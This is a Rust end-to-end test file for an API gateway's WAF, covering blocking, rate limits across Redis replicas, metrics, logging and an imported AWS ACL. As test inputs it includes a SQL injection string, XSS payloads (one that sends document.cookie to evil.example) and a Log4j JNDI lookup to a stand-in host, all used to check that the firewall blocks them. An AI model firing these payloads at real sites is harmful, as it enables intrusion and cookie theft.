//! The WAF end to end, over TCP, on `specs/waf` (generated and served): clean requests pass,
//! SQL injection (managed `sql_database` group), XSS, a Log4j lookup (`known_bad_inputs`) and a
//! scanner's user agent (custom 406) are refused, an `X-Forwarded-For` from an untrusted peer
//! does not put a client in the blocked IP set, the route's rate-based rule blocks the sixth
//! order in a minute, `/metrics` counts per rule and the access log names the rule; and the
//! rate-based rule counts across two replicas sharing Redis. Rule by rule semantics (trusted
//! proxies, oversize, geo, overrides) are tested in `runtime/src/step/waf/tests.rs`.

use std::net::TcpListener;
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use http::Method;

use crate::harness::client::{self, TestBody};
use crate::harness::{Backend, Target, TestResult, annotate, eventually};

fn targets() -> [Target; 2] {
    [Target::Example("waf"), Target::serve_example("waf")]
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rules_block_count_and_log_over_tcp() -> TestResult {
    let backend = Backend::start().await?;
    for target in targets() {
        let gw = target.start(&backend.url(), &["--admin-listen", "127.0.0.1:0"])?;
        let check = async {
            let addr = gw.addr();
            let get = |path: &str| client::get(addr, path);
            let ok = client::send(addr, get("/products?q=blue+shoes")?).await?;
            ensure_eq!(ok.status, 200, "a clean request");

            let sqli = client::send(addr, get("/products?id=1%27%20OR%20%271%27%3D%271")?).await?;
            ensure_eq!(sqli.status, 403, "SQL injection");
            ensure_eq!(sqli.json()?["message"], "Forbidden", "WAF_FILTERED body");

            // `'probe'` is a fragment: the default level passes it, high sensitivity does not.
            let probe = "?q=%27probe%27";
            let products = client::send(addr, get(&format!("/products{probe}"))?).await?;
            ensure_eq!(products.status, 200, "a quote probe at the default level");
            let search = client::send(addr, get(&format!("/search{probe}"))?).await?;
            ensure_eq!(search.status, 403, "a quote probe at high sensitivity");
            let terms = client::send(addr, get("/search?q=O%27Reilly+books")?).await?;
            ensure_eq!(
                terms.status,
                200,
                "ordinary search terms at high sensitivity"
            );

            let xss = client::request(Method::POST, addr, "/orders")
                .header("content-type", "application/x-www-form-urlencoded")
                .body(TestBody::full("note=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E"))?;
            ensure_eq!(
                client::send(addr, xss).await?.status,
                403,
                "XSS in a form body"
            );

            let log4j = client::request(Method::GET, addr, "/products")
                .header("x-api-version", "${jndi:ldap://evil.example/a}")
                .body(TestBody::empty())?;
            ensure_eq!(client::send(addr, log4j).await?.status, 403, "Log4j lookup");

            let scanner = client::request(Method::GET, addr, "/products")
                .header("user-agent", "sqlmap/1.7.2#stable")
                .body(TestBody::empty())?;
            let reply = client::send(addr, scanner).await?;
            ensure_eq!(reply.status, 406, "custom response status");
            ensure_eq!(reply.header("x-blocked-by"), Some("gwc"), "custom header");
            ensure_eq!(
                reply.text(),
                r#"{"message":"scanners are not welcome"}"#,
                "custom body"
            );

            let spoofed = client::request(Method::GET, addr, "/products")
                .header("x-forwarded-for", "198.51.100.7")
                .body(TestBody::empty())?;
            ensure_eq!(
                client::send(addr, spoofed).await?.status,
                200,
                "X-Forwarded-For from an untrusted peer is ignored"
            );

            for i in 1..=5 {
                let order =
                    client::request(Method::POST, addr, "/orders").body(TestBody::full("{}"))?;
                ensure_eq!(client::send(addr, order).await?.status, 200, "order {i}");
            }
            let order =
                client::request(Method::POST, addr, "/orders").body(TestBody::full("{}"))?;
            ensure_eq!(
                client::send(addr, order).await?.status,
                403,
                "the sixth order in a minute"
            );

            let admin = gw.admin_addr().ok_or("no admin line")?;
            let page = client::send(admin, client::get(admin, "/metrics")?)
                .await?
                .text();
            for series in [
                "gwc_waf_api_sql_sqli_queryarguments_blocked_total{api=\"waf\",stage=\"prod\",method=\"\",route=\"(unmatched)\"} 1",
                "gwc_waf_createorder_order_flood_blocked_total{api=\"waf\",stage=\"prod\",method=\"POST\",route=\"/orders\"} 1",
                "gwc_waf_search_strict_search_blocked_total{api=\"waf\",stage=\"prod\",method=\"GET\",route=\"/search\"} 1",
            ] {
                ensure!(page.contains(series), "no `{series}` in\n{page}");
            }
            let lines = eventually(Duration::from_secs(5), || async {
                let lines: Vec<serde_json::Value> = gw
                    .stdout_lines()
                    .iter()
                    .filter_map(|l| serde_json::from_str(l).ok())
                    .collect();
                (lines.len() >= 15).then_some(lines)
            })
            .await
            .ok_or("fewer than 15 access-log lines")?;
            let sqli_line = lines
                .iter()
                .find(|l| l["wafRule"] == "sql/SQLi_QUERYARGUMENTS")
                .ok_or("no access-log line names the SQLi rule")?;
            ensure_eq!(sqli_line["wafResponseCode"], "WAF_BLOCK", "wafResponseCode");
            ensure_eq!(sqli_line["errorType"], "WAF_FILTERED", "errorType");
            TestResult::Ok(())
        };
        check.await.map_err(|e| annotate(&gw, e))?;
    }
    Ok(())
}

/// A `redis-server` on a free loopback port, killed on drop.
struct Redis {
    child: Child,
    port: u16,
}

impl Drop for Redis {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn redis() -> Option<Redis> {
    let port = TcpListener::bind("127.0.0.1:0")
        .ok()?
        .local_addr()
        .ok()?
        .port();
    let child = Command::new("redis-server")
        .args([
            "--port",
            &port.to_string(),
            "--bind",
            "127.0.0.1",
            "--save",
            "",
            "--appendonly",
            "no",
        ])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .ok()?;
    for _ in 0..100 {
        if std::net::TcpStream::connect(("127.0.0.1", port)).is_ok() {
            return Some(Redis { child, port });
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    None
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rate_based_rules_are_shared_by_replicas_through_redis() -> TestResult {
    let Some(redis) = redis() else {
        crate::harness::redis::skip(
            "redis-server could not be started (install the redis-server package)",
        );
        return Ok(());
    };
    let backend = Backend::start().await?;
    let url = format!("redis://127.0.0.1:{}", redis.port);
    let target = Target::serve_example("waf");
    let a = target.start(&backend.url(), &["--state", &url])?;
    let b = target.start(&backend.url(), &["--state", &url])?;
    let mut statuses = Vec::new();
    for i in 0..6 {
        let gw = if i % 2 == 0 { &a } else { &b };
        let order =
            client::request(Method::POST, gw.addr(), "/orders").body(TestBody::full("{}"))?;
        statuses.push(client::send(gw.addr(), order).await?.status.as_u16());
    }
    ensure_eq!(
        statuses,
        vec![200, 200, 200, 200, 200, 403],
        "orders alternating between replicas"
    );
    Ok(())
}

/// A spec whose `x-gateway.waf` is what `gwc waf import` wrote (indented under `waf:`), with
/// one greedy route to the backend.
fn imported_spec(waf_yaml: &str) -> String {
    let waf: String = waf_yaml.lines().map(|l| format!("    {l}\n")).collect();
    format!(
        r#"openapi: 3.0.3
info: {{title: Imported ACL, version: 1.0.0}}
x-gateway:
  name: imported
  default_stage: test
  stages:
    test:
      variables:
        backend: http://127.0.0.1:9
  waf:
{waf}paths:
  /{{proxy+}}:
    x-gateway-any-method:
      operationId: everything
      parameters:
        - {{name: proxy, in: path, required: true, schema: {{type: string}}}}
      x-gateway-integration:
        type: http_proxy
        uri: "${{stageVariables.backend}}/{{proxy}}"
      responses:
        default: {{description: Whatever the backend answers.}}
"#
    )
}

/// `gwc waf import` on an ACL as `aws wafv2 get-web-acl` prints it (tests/fixtures/waf-import,
/// with its IP set and regex pattern set), served: what the ACL blocks is blocked (managed SQL
/// group, the regex pattern set's custom 406, `and`/`not` on a path and a header, a size
/// constraint with oversize `match`, XSS in a JSON body, a scoped rate-based rule), what it
/// only counts passes (the known-bad-inputs group overridden to count, a CAPTCHA rule), and a
/// clean request passes.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_imported_aws_web_acl_blocks_what_the_acl_blocks() -> TestResult {
    let fixtures = crate::harness::binaries::workspace_root().join("tests/fixtures/waf-import");
    // MaxMind's test database from the corpus, when it is here; without one the importer
    // leaves the geo rule out (and says so), which the rest of the test does not need.
    let geo = std::env::var_os("GWC_CORPUS")
        .map_or_else(
            || crate::harness::binaries::workspace_root().join("../shared/corpus"),
            std::path::PathBuf::from,
        )
        .join("geoip/GeoIP2-Country-Test.mmdb");
    let mut import = Command::new(crate::harness::binaries::gwc()?);
    import
        .args(["--color", "never", "waf", "import"])
        .arg(fixtures.join("web-acl.json"))
        .arg("--set")
        .arg(fixtures.join("ip-set.json"))
        .arg("--set")
        .arg(fixtures.join("regex-set.json"));
    if geo.is_file() {
        import.arg("--geo-database").arg(&geo);
    }
    let out = import.output()?;
    let stderr = String::from_utf8_lossy(&out.stderr);
    ensure!(out.status.success(), "gwc waf import failed:\n{stderr}");
    let summary = if geo.is_file() {
        "imported 14 rules"
    } else {
        "imported 13 rules"
    };
    ensure!(stderr.contains(summary), "summary: {stderr}");
    ensure!(
        stderr.contains("labelled-bots") && stderr.contains("lookaround-regex"),
        "the rules left out are named: {stderr}"
    );
    let dir = tempfile::tempdir()?;
    let spec = dir.path().join("spec.yaml");
    std::fs::write(&spec, imported_spec(&String::from_utf8(out.stdout)?))?;

    let backend = Backend::start().await?;
    let gw = Target::Serve(spec).start(&backend.url(), &[])?;
    let check = async {
        let addr = gw.addr();
        let send = |req| client::send(addr, req);
        let get = |path: &str, header: Option<(&str, &str)>| {
            let mut b = client::request(Method::GET, addr, path);
            if let Some((n, v)) = header {
                b = b.header(n, v);
            }
            b.body(TestBody::empty())
        };
        // First: the rate counter counts every request from the address (the import's stated
        // difference from AWS), the rule blocks only `/login`.
        for i in 1..=100 {
            ensure_eq!(send(get("/login", None)?).await?.status, 200, "login {i}");
        }
        ensure_eq!(
            send(get("/login", None)?).await?.status,
            403,
            "login 101 in a minute"
        );
        ensure_eq!(
            send(get("/products", None)?).await?.status,
            200,
            "outside the scope-down statement"
        );
        ensure_eq!(
            send(get("/products?q=blue+shoes", None)?).await?.status,
            200,
            "clean"
        );

        let sqli = send(get("/products?id=1%27%20OR%20%271%27%3D%271", None)?).await?;
        ensure_eq!(sqli.status, 403, "SQLi (AWSManagedRulesSQLiRuleSet)");
        ensure_eq!(sqli.json()?["message"], "Forbidden", "WAF_FILTERED body");

        let scanner = send(get(
            "/products",
            Some(("user-agent", "SQLMap/1.7.2#stable")),
        )?)
        .await?;
        ensure_eq!(
            scanner.status,
            406,
            "regex pattern set, lowercased user agent"
        );
        ensure_eq!(
            scanner.header("x-amzn-waf-blocked-by"),
            Some("storefront-acl"),
            "custom header, with AWS's prefix"
        );
        ensure_eq!(
            scanner.text(),
            r#"{"message":"scanners are not welcome"}"#,
            "custom body from CustomResponseBodies"
        );

        ensure_eq!(
            send(get("/%41dmin/users", None)?).await?.status,
            403,
            "admin, URL-decoded"
        );
        ensure_eq!(
            send(get(
                "/admin/users",
                Some(("x-office-token", "office-7f3a"))
            )?)
            .await?
            .status,
            200,
            "admin from the office (the `not` statement)"
        );

        let big = client::request(Method::POST, addr, "/uploads")
            .body(TestBody::full(vec![b'a'; 20 << 10]))?;
        ensure_eq!(send(big).await?.status, 403, "a body over 8 KiB");
        let small = client::request(Method::POST, addr, "/uploads")
            .body(TestBody::full(vec![b'a'; 4 << 10]))?;
        ensure_eq!(send(small).await?.status, 200, "a body under 8 KiB");

        let review = client::request(Method::POST, addr, "/reviews")
            .header("content-type", "application/json")
            .body(TestBody::full(
                r#"{"text":"<script>document.location='//evil.example/'+document.cookie</script>"}"#,
            ))?;
        ensure_eq!(send(review).await?.status, 403, "XSS in a JSON body");

        let log4j = get(
            "/products",
            Some(("x-api-version", "${jndi:ldap://evil.example/a}")),
        )?;
        ensure_eq!(
            send(log4j).await?.status,
            200,
            "known bad inputs: overridden to count"
        );
        let headless = get(
            "/products",
            Some(("user-agent", "Mozilla/5.0 HeadlessChrome/120")),
        )?;
        ensure_eq!(
            send(headless).await?.status,
            200,
            "CAPTCHA rule: counts only"
        );

        TestResult::Ok(())
    };
    check.await.map_err(|e| annotate(&gw, e))?;
    Ok(())
}
